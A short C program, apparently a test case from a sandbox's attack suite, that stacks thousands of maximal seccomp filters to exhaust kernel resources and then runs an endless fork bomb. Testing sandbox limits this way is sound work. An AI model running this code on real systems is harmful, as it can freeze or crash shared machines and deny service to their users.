/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Filters on filters, as many and as long as they may be. */
#include "attack.h"

#include <linux/filter.h>
#include <linux/seccomp.h>
#include <sys/prctl.h>

int main(void)
{
    static struct sock_filter code[4096];
    for (int i = 0; i < 4095; i++)
        code[i] = (struct sock_filter)BPF_STMT(BPF_LD | BPF_W | BPF_ABS, 0);
    code[4095] = (struct sock_filter)BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW);
    prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
    for (unsigned length = 4096; length > 0; length = length > 1 ? length / 2 : 1) {
        struct sock_fprog program = {(unsigned short)length, code + 4096 - length};
        for (int i = 0; i < 3000; i++)
            if (syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &program) != 0)
                break;
        if (length == 1)
            break;
    }
    for (;;)
        fork();
}
